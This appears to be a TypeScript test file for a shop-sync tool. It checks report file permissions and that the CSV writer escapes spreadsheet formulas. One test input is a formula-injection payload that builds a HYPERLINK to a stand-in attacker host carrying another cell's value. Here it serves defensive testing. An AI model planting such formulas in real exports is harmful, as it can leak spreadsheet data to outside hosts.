/**
 * Reconciliation reports list every drifted field of a catalog, ERP and shop values side by side:
 * they are created for the shopsync user alone, whatever the umask (issue 42, finding 18).
 */
import { readFileSync, statSync } from 'node:fs';
import { join } from 'node:path';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { ReportStore } from '../../src/reconcile/store.js';
import type { ReconcileReport } from '../../src/reconcile/report.js';
import { removeDir, tempDir } from '../support/tmp.js';

const mode = (path: string) => statSync(path).mode & 0o777;

let dir: string;
let umask: number;
beforeEach(() => {
  dir = tempDir('shopsync-report-perm-');
  umask = process.umask(0o000);
});
afterEach(() => {
  process.umask(umask);
  removeDir(dir);
});

describe('reconcile report files', () => {
  it('are created 0600 (JSON and CSV) in folders created 0700, under umask 000', async () => {
    const store = new ReportStore(join(dir, 'reconcile'));
    const csv = await store.csv('products', 'r1');
    await csv.row(['changed', 'A-1', 'A-1', 1, 'products_price', '1.00', '2.00']);
    await csv.close();
    const report = { id: 'r1', pipeline: 'products' } as unknown as ReconcileReport;
    const file = await store.save(report, 5);
    expect([mode(file), mode(join(dir, 'reconcile', 'products', 'r1.csv'))]).toEqual([0o600, 0o600]);
    expect([mode(join(dir, 'reconcile')), mode(join(dir, 'reconcile', 'products'))]).toEqual([0o700, 0o700]);
  });
});

describe('the reconcile CSV report', () => {
  it('writes a shop value that a spreadsheet would run as a formula as text, and negative numbers as numbers', async () => {
    const store = new ReportStore(join(dir, 'reconcile'));
    const csv = await store.csv('products', 'r2');
    await csv.row(['changed', 'A-1', 'A-1', 1, 'products_name', '=HYPERLINK("http://evil.example/?"&B2,"open")', 'Shirt']);
    await csv.row(['changed', 'A-2', 'A-2', 2, 'products_quantity', '-3', '@SUM(A1:A9)']);
    await csv.close();
    const lines = readFileSync(join(dir, 'reconcile', 'products', 'r2.csv'), 'utf8').trim().split('\n');
    expect(lines.slice(1)).toEqual(['changed,A-1,A-1,1,products_name,"\'=HYPERLINK(""http://evil.example/?""&B2,""open"")",Shirt', "changed,A-2,A-2,2,products_quantity,-3,'@SUM(A1:A9)"]);
  });

  it('keeps cells as they are when the pipeline says reconcile.escapeFormulas: false', async () => {
    const store = new ReportStore(join(dir, 'reconcile'));
    const csv = await store.csv('products', 'r3', { escapeFormulas: false });
    await csv.row(['changed', 'A-1', 'A-1', 1, 'products_name', '=1+1', 'Shirt']);
    await csv.close();
    expect(readFileSync(join(dir, 'reconcile', 'products', 'r3.csv'), 'utf8').trim().split('\n')[1]).toBe('changed,A-1,A-1,1,products_name,=1+1,Shirt');
  });
});
